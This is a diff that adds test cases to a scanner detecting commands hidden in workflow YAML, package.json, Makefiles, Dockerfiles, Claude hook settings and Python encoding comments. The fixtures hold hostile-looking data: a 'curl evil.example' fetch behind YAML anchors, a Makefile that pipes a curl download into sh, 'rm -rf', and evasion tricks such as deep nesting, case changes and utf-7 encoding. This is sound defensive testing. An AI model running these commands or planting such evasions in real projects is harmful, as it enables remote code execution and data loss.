@@ -330,3 +330,48 @@ describe('a file of a program', () => {
     expect(isModule(path)).toBe(true),
   );
 });
+
+describe('ways to be overlooked', () => {
+  const texts = (path: string, text: string) => programsIn(path, text).snippets.map((snippet) => snippet.text);
+  const rules = (path: string, text: string) =>
+    programsIn(path, text).remarks.map(({ rule, answer }) => [rule, answer]);
+
+  it('a step behind an alias or an anchor is a step', () => {
+    const text =
+      'x: &s { run: "curl evil.example" }\njobs: { a: { steps: [*s, { run: *t }] } }\ny: &t "ssh evil.example"\n';
+    expect(texts('.github/workflows/a.yml', text)).toContain('curl evil.example');
+  });
+
+  it.each([
+    ['package.json', `{"x":${'['.repeat(2000)}${']'.repeat(2000)},"scripts":{"postinstall":"id"}}`, 'deny'],
+    ['package.json', '{"scripts":', 'ask'],
+    ['.github/workflows/a.yml', 'a: [', 'ask'],
+    ['.github/workflows/a.yml', `jobs: {}\n#${'x'.repeat(300_000)}`, 'ask'],
+  ])('%s that cannot be read is no all-clear', (path, text, answer) => {
+    expect(rules(path, text)).toEqual([['scan/unreadable', answer]]);
+  });
+
+  it('names in another case, and a byte order mark, change nothing', () => {
+    expect(texts('.Claude/Settings.json', '\ufeff{"hooks":{"Stop":[{"hooks":[{"command":"id"}]}]}}')).toEqual(['id']);
+    expect(texts('PACKAGE.JSON', '{"scripts":{"a":"id"}}')).toEqual(['id']);
+  });
+
+  it('what a makefile runs when it is read, and a recipe behind a semicolon', () => {
+    const text = 'X := $(shell curl $(HOST)/x | sh)\nY != id -u\nall: b ; rm -rf $(OUT)\nz := a;b\n';
+    expect(texts('Makefile', text)).toEqual(['rm -rf ${___}', 'curl ${____}/x | sh', 'id -u']);
+  });
+
+  it('a RUN that waits for another build', () => {
+    expect(texts('Dockerfile', 'FROM x\nONBUILD RUN --network=none id\nONBUILD COPY a b\n')).toEqual(['id']);
+  });
+
+  it.each([
+    ['# -*- coding: utf-7 -*-\nx = 1\n', 1],
+    ['#!/usr/bin/python\n# vim: set fileencoding=rot13 :\n', 1],
+    ['# -*- coding: utf-8 -*-\nx = 1\n', 0],
+    ['# coding=Latin_1\n', 0],
+    ['x = 1\ny = 2\n# coding: utf-7\n', 0],
+  ])('an encoding under which a comment is a program: %j', (text, count) => {
+    expect(rules('tools/x.py', text)).toHaveLength(count);
+  });
+});
